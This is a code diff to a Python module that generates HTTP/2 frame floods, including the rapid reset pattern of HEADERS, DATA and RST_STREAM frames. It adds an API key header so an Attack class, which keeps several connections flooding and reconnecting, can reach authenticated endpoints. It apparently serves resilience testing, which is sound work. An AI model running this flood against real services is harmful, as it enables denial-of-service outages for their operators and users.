@@ -1,5 +1,6 @@
 """Floods of HTTP/2 frames (RFC 9113), as hostile clients send them."""
 
+import functools
 import socket
 import ssl
 import struct
@@ -17,8 +18,9 @@ CALL = ((":method", "POST"), (":scheme", "http"),
 FIELD = field("x" * 60, "y" * 60)
 
 
-def call_headers():
-    return b"".join(field(*pair) for pair in CALL)
+def call_headers(key=None):
+    fields = CALL if key is None else (*CALL, ("x-api-key", key))
+    return b"".join(field(*pair) for pair in fields)
 
 
 EMPTY_MESSAGE = b"\0\0\0\0\0"
@@ -29,8 +31,8 @@ def streams(make, first=1, count=FIRST_STREAMS):
     return b"".join(make(id) for id in range(first, first + 2 * count, 2))
 
 
-def rapid_resets(first):
-    headers = call_headers()
+def rapid_resets(first, key=None):
+    headers = call_headers(key)
     return streams(lambda id: frame(HEADERS, END_HEADERS, id, headers)
                    + frame(DATA, END_STREAM, id, EMPTY_MESSAGE)
                    + frame(RST_STREAM, 0, id, struct.pack(">I", CANCEL)), first)
@@ -79,10 +81,12 @@ class Attack:
     """Connections that each send a flood until stopped; connects again when it
     is closed."""
 
-    def __init__(self, address, name, connections=8, tls=None):
+    def __init__(self, address, name, connections=8, tls=None, key=None):
         host, port = address.rsplit(":", 1)
         self._address = (host.strip("[]"), int(port))
         self._begin, self._flood = FLOODS[name]
+        if key is not None:
+            self._flood = functools.partial(self._flood, key=key)
         self._tls = tls
         self._stop = threading.Event()
         self.bytes = 0
